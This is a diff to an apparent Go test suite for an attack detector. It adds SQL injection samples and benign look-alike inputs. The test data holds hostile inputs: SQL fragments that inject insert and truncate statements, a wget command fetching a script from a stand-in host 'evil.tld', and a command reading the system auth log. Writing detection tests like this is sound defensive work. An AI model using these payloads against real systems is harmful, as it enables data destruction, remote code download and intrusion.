@@ -111,6 +111,11 @@ var attackCases = []struct {
 	{"cmdi", "query:cmd", "if/I %answer%==yes x"},
 	{"cmdi", "query:cmd", "wget -q -O- http://evil.tld/stage.sh"},
 	{"cmdi", "query:f", "zstdcat /var/log/auth.log.zst"},
+	{"sqli", "query:q", "zz' like(3) * 2-- -b"},
+	{"sqli", "query:q", "qq'in (5)#"},
+	{"sqli", "query:q", "bb'=('bb')#("},
+	{"sqli", "query:q", ";insert into audit (a, b) values (1, 2)"},
+	{"sqli", "query:q", "; truncate sessions"},
 }
 
 // hardBenign are inputs that look like attacks to keyword matchers but are ordinary.
@@ -326,6 +331,10 @@ var hardBenign = []struct{ where, in string }{
 	{"query:q", "if (x == 1) return"},
 	{"query:q", "curl https://api.example.com returns JSON"},
 	{"query:q", "zstdcat archive.zst"},
+	{"query:q", `price "total" = 5 -- see note`},
+	{"query:q", "rock 'n' roll -- a"},
+	{"query:q", ";drop me a line"},
+	{"query:q", "; insert coin"},
 }
 
 func TestDetectAttacks(t *testing.T) {
